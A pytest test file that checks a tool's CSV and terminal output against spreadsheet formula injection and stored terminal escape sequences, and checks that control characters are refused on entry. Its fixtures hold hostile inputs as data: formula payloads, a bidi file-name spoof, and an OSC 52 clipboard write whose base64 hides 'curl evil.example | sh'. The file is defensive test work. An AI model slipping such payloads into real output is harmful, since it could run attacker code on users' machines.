"""Output that reaches a spreadsheet or a terminal, and the free text that feeds it (issue 11, part 3).

Stored text is written here straight through the Store API, as a store written by an older
linkcheck (which accepted control characters) would hold it: the output side must be safe on
its own, whatever entry validation lets in.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from linkcheck import accounts as book
from linkcheck.importers import read_records
from linkcheck.importers.csv import split_cell
from linkcheck.importers.safety import FORMULA_STARTS, escape_formula, unescape_formula
from linkcheck.models import Account, Profile
from linkcheck.store import Store

from conftest import PASSPHRASE

CR_FORMULA = "Acme Widgets\r=2+3"
# OSC 0 (window title), OSC 52 (write the clipboard), ESC c (reset the terminal), BEL, BS, NUL.
TERMINAL_ATTACK = "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1bc\x08\x00done"
BIDI = "invoice \u202egnp.exe"
LIVE_STARTS = ("=", "+", "-", "@")


def _put(store_path, *profiles: Profile) -> None:
    with Store.open(store_path, PASSPHRASE, write=True) as st:
        for profile in profiles:
            st.put_profile(profile)


def _profile(name: str, *, marketplace="amazon.com", note=None, email="ops@shop.example", email_note=None):
    attribute = book.make_attribute("email", email, source="import")._replace(note=email_note)
    return Profile(Account(name, marketplace, "active", note, 1_790_000_000, 1_790_000_000), (attribute,))


def _assert_no_live_formula(text: str) -> None:
    """No cell starts a formula, read as a spreadsheet reads CSV or split naively by lines and commas."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(LIVE_STARTS + ("\t", "\r")), (cell, row)
    for line in text.splitlines():  # splits at CR as well as LF
        for cell in line.split(","):
            opened = cell[1:] if cell.startswith('"') else cell  # a naive reader drops the opening quote
            assert not opened.startswith(LIVE_STARTS), (cell, line)


# ----- CSV -----------------------------------------------------------------------------------


def test_a_carriage_return_in_a_value_starts_no_row_and_no_formula_in_any_csv_output(cli, store, tmp_path):
    _put(
        store,
        _profile("acme-a", marketplace=CR_FORMULA, note=CR_FORMULA, email_note=CR_FORMULA),
        _profile("acme-b", marketplace="amazon.de\n@SUM(A1)", note="ok;-1+1,+2"),
    )
    # A value's kind accepts a line break (a multi-line address); this is the attack as typed.
    assert cli("attr", "add", "acme-a", "company_name", CR_FORMULA).exit_code == 0
    export = tmp_path / "accounts.csv"
    assert cli("export", "--format", "csv", "-o", export).exit_code == 0
    outputs = {
        "export": export.read_bytes().decode("utf-8-sig"),  # no newline translation: CR stays CR
        "account list": cli("account", "list", "--format", "csv").stdout,
        "account show": cli("account", "show", "acme-a", "--format", "csv").stdout,
        "audit": cli("audit", "--format", "csv").stdout,
    }
    for text in outputs.values():
        _assert_no_live_formula(text)
    # The value is one quoted cell: a spreadsheet sees one row per account.
    rows = list(csv.reader(io.StringIO(outputs["export"])))
    assert len(rows) == 3
    assert rows[1][:2] == ["acme-a", "Acme Widgets\r'=2+3"]
    assert '"Acme Widgets\r\'=2+3"' in outputs["export"]
    assert rows[1][rows[0].index("company_name")] == "Acme Widgets\r'=2+3"
    # ... and import takes the guard off again: the value comes back exactly.
    records = {r.name: r for r in read_records(export, "csv")}
    assert [v.value for v in records["acme-a"].values if v.kind == "company_name"] == [CR_FORMULA]
    assert records["acme-a"].marketplace == CR_FORMULA
    audit = list(csv.reader(io.StringIO(outputs["audit"])))
    assert len(audit) == 2, audit  # header and the one linked pair (the shared email)


def test_the_guarded_csv_export_imports_back_exactly(cli, store, tmp_path):
    _put(
        store,
        _profile("acme-a", marketplace="a,=b;-c", note="first\n=1+1\n\t@x\n'=kept as typed"),
        _profile("acme-b", marketplace="amazon.de", note="'+1"),
    )
    export = tmp_path / "accounts.csv"
    assert cli("export", "--format", "csv", "-o", export).exit_code == 0
    records = {r.name: r for r in read_records(export, "csv")}
    assert records["acme-a"].marketplace == "a,=b;-c"
    assert records["acme-a"].note == "first\n=1+1\n\t@x\n'=kept as typed"
    assert records["acme-b"].note == "'+1"


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("=+-@'\t\r\n,;x\\\"") | st.characters(blacklist_categories=("Cs",)), max_size=40))
@example("'=x")  # an apostrophe typed before a formula character survives the round trip
@example("\t\t=")
def test_the_formula_guard_is_undone_exactly(text):
    guarded = escape_formula(text)
    assert unescape_formula(guarded) == text
    assert not guarded.startswith(LIVE_STARTS + ("\t", "\r"))
    # However a reader splits it (lines, commas, semicolons, tabs), no piece starts a formula.
    for piece in re.split(r"[\r\n,;\t]", guarded):
        assert not piece.startswith(LIVE_STARTS), (text, guarded)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(st.sampled_from("=+-@';；\\ x\t\r") | st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=12).map(str.strip).filter(bool), max_size=4))
def test_several_values_in_one_cell_survive_the_guard(values):
    # Either separator, ";" or the full-width "；", splits a cell; each is escaped inside a value.
    escaped = [v.replace("\\", "\\\\").replace(";", "\\;").replace("；", "\\；") for v in values]
    assert split_cell(escape_formula(";".join(escaped))) == values
    assert split_cell(escape_formula("；".join(escaped))) == values


def test_every_formula_start_is_listed():
    assert set(LIVE_STARTS) <= set(FORMULA_STARTS)


# ----- the terminal --------------------------------------------------------------------------


def _stored_attack(store) -> None:
    _put(store, _profile("acme-a", marketplace="amazon.com" + TERMINAL_ATTACK, note=TERMINAL_ATTACK + BIDI,
                         email_note=TERMINAL_ATTACK))


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_account_show_of_a_stored_escape_sequence_writes_no_escape_to_the_terminal(cli, store, fmt):
    _stored_attack(store)
    result = cli("account", "show", "acme-a", "--format", fmt)
    assert result.exit_code == 0, result.output
    for byte in (b"\x1b", b"\x07", b"\x08", b"\x00", "\u202e".encode()):
        assert byte not in result.stdout_bytes
    if fmt == "json":  # escapes there are JSON escapes: the same text for a program
        assert json.loads(result.stdout)["note"] == TERMINAL_ATTACK + BIDI
    else:
        assert "\\u001b]0;owned\\u0007" in result.stdout
    if fmt == "table":
        assert "\\u202egnp.exe" in result.stdout  # the account's note


@pytest.mark.parametrize(
    "args",
    [
        ("account", "list"),
        ("account", "list", "--format", "csv"),
        ("audit",),
        ("audit", "--format", "json"),
        ("statement", "acme-a", "--against", "acme-b", "--include-notes", "--disclose"),
        ("statement", "acme-a", "--against", "acme-b", "--include-notes", "--disclose", "--format", "json"),
    ],
)
def test_no_command_sends_stored_control_characters_to_the_terminal(cli, store, args):
    _stored_attack(store)
    _put(store, _profile("acme-b", note=BIDI))
    result = cli(*args)
    assert result.exit_code in (0, 1), result.output
    assert b"\x1b" not in result.stdout_bytes and b"\x07" not in result.stdout_bytes
    assert "\u202e".encode() not in result.stdout_bytes
    assert b"\x1b" not in result.stderr_bytes


def test_a_statement_file_carries_no_control_character_and_verifies(cli, store, tmp_path):
    _stored_attack(store)
    _put(store, _profile("acme-b", note=BIDI))
    for fmt in ("text", "markdown", "html", "json"):
        out = tmp_path / f"statement.{fmt}"
        result = cli("statement", "acme-a", "--against", "acme-b", "--include-notes", "--disclose",
                     "--format", fmt, "-o", out)
        assert result.exit_code == 0, result.output
        data = out.read_bytes()
        assert b"\x1b" not in data and b"\x00" not in data and "\u202e".encode() not in data
        assert cli("verify", out).exit_code == 0


# ----- entry ---------------------------------------------------------------------------------

REFUSED = ["\x1b]0;owned\x07", "a\x00b", "over\rwrite", "back\x08space", "bell\x07", "\x9b31m", "\u202eevil"]


@pytest.mark.parametrize("text", REFUSED)
@pytest.mark.parametrize(
    "command",
    [
        lambda t: ("account", "add", "shop-x", "--note", t),
        lambda t: ("account", "add", "shop-x", "--marketplace", t),
        lambda t: ("account", "set", "shop-a", "--note", t),
        lambda t: ("account", "set", "shop-a", "--marketplace", t),
        lambda t: ("attr", "add", "shop-a", "hostname", "laptop-9", "--note", t),
        lambda t: ("explain", "shop-a", "shop-b", "email", "--note", t),
    ],
    ids=["add note", "add marketplace", "set note", "set marketplace", "attr note", "explain note"],
)
def test_control_characters_are_refused_on_entry(cli, store, store_path, command, text):
    _put(store, _profile("shop-a"), _profile("shop-b"))
    before = store_path.read_bytes()
    result = cli(*command(text))
    assert result.exit_code == 3, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("linkcheck: error: ")
    assert "control character U+" in lines[0] or "not valid text" in lines[0]
    assert "\x1b" not in result.stderr
    assert store_path.read_bytes() == before


def test_notes_keep_line_breaks_and_tabs_but_a_marketplace_is_one_line(cli, store):
    assert cli("account", "add", "shop-x", "--note", "line one\r\nline two\tend").exit_code == 0
    shown = json.loads(cli("account", "show", "shop-x", "--format", "json").stdout)
    assert shown["note"] == "line one\nline two\tend"
    result = cli("account", "set", "shop-x", "--marketplace", "amazon.com\namazon.de")
    assert result.exit_code == 3
    assert "marketplace contains the control character U+000A; it must be one line" in result.stderr


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_import_refuses_control_characters_in_free_text(cli, store, tmp_path, fmt):
    path = tmp_path / f"accounts.{fmt}"
    if fmt == "json":
        path.write_text(json.dumps([
            {"account": "shop-a", "note": "ok\x1b]52;c;eA==\x07"},
            {"account": "shop-b", "marketplace": "amazon.com\r=1", "attributes": {
                "email": [{"value": "a@shop-b.example", "note": "\x1bc"}]}},
        ]), encoding="utf-8")
    else:
        path.write_text('account,marketplace,note\nshop-a,amazon.com,"ok\x1b]52;c;eA==\x07"\nshop-b,"a\rb",\n',
                        encoding="utf-8")
    result = cli("import", path)
    assert result.exit_code == 3, result.output
    assert "shop-a" in result.stderr and "note contains the control character U+001B" in result.stderr
    assert "marketplace contains the control character U+000D" in result.stderr
    assert "\x1b" not in result.stderr
    assert json.loads(cli("account", "list", "--format", "json").stdout) == []


# Stored text never starts or ends with white space: entry strips it.
TRICKY = st.text(st.sampled_from("=+-@'\t\r\n,;\"\\ xé深"), min_size=1, max_size=15).map(str.strip).filter(bool)


@settings(max_examples=150, deadline=None)
@given(marketplace=TRICKY, note=TRICKY, company=TRICKY)
def test_any_text_in_a_csv_export_reads_back_exactly(tmp_path_factory, marketplace, note, company):
    from linkcheck.cli.output import write_export
    from linkcheck.models import Attribute

    attribute = Attribute("company_name", company, company, source="import", first_seen=1, last_seen=1)
    profile = Profile(Account("acme-a", marketplace, "active", note, 1, 1), (attribute,))
    path = tmp_path_factory.mktemp("csv") / "export.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        write_export([profile], "csv", fh, ["company_name"])
    text = path.read_bytes().decode("utf-8-sig")
    _assert_no_live_formula(text)
    (record,) = read_records(path, "csv")
    assert (record.marketplace, record.note) == (marketplace, note)
    assert [v.value for v in record.values] == [company]
